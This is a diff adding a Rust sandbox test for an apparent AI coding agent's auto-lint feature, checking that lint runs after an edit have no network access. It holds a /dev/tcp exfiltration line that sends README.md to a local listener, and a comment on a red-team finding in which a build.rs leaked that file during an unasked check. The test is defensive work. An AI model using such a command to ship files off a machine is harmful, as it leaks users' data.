@@ -554,4 +554,66 @@ mod confinement_tests {
         );
         assert!(!ws.join("build-rs-ran").exists(), "{note}");
     }
+
+    #[tokio::test]
+    async fn the_check_after_an_edit_has_no_network() {
+        // Red-team pass 4, R4-10: with `shell.network = true`, auto-lint's `cargo check` ran a
+        // shipped `build.rs` that posted README.md to a listener, unasked. A check here
+        // connects by itself; the control is the same command with the user's approval.
+        if !crate::sandbox::is_available() || exec::find_program("bash").is_none() {
+            assert!(
+                std::env::var("CI").is_err(),
+                "bash and the kernel sandbox are needed for this test"
+            );
+            println!("SKIPPED: no bash or no kernel sandbox");
+            return;
+        }
+        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let ws = tmp.path();
+        std::fs::write(ws.join("README.md"), "PROJECT-NOTES\n").unwrap_or_else(|e| panic!("{e}"));
+        std::fs::write(ws.join("a.py"), "x = 1\n").unwrap_or_else(|e| panic!("{e}"));
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
+        listener
+            .set_nonblocking(true)
+            .unwrap_or_else(|e| panic!("{e}"));
+        let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
+        let post = format!("bash -c 'cat README.md > /dev/tcp/127.0.0.1/{port}' {{files}}");
+        let mut settings = LintSettings::default();
+        settings
+            .commands
+            .insert("python".into(), vec![post.clone()]);
+        let shell = Arc::new(ShellSettings {
+            network: true,
+            ..ShellSettings::default()
+        });
+        let reached = |l: &std::net::TcpListener| {
+            (0..25).any(|_| {
+                if l.accept().is_ok() {
+                    return true;
+                }
+                std::thread::sleep(Duration::from_millis(20));
+                false
+            })
+        };
+        let ctx = ToolContext::new(crate::Workspace::new(ws).unwrap_or_else(|e| panic!("{e}")));
+        let lint = AutoLint::new(settings, shell.clone());
+        let note = lint.check(&["a.py".to_string()], &ctx).await;
+        assert!(
+            !reached(&listener),
+            "auto-lint reached the network: {note:?}"
+        );
+        // The control: the same line with the user's approval connects.
+        let mut req = ExecRequest::new(
+            vec![
+                exec::shell_program().into_os_string(),
+                OsString::from("-c"),
+                OsString::from(post.replace("{files}", "a.py")),
+            ],
+            ws,
+        );
+        req.policy = SandboxPolicy::WorkspaceWrite;
+        req.roots = shell.approved_roots(&ctx);
+        let _ = exec::run(req).await;
+        assert!(reached(&listener), "the approved control never connected");
+    }
 }
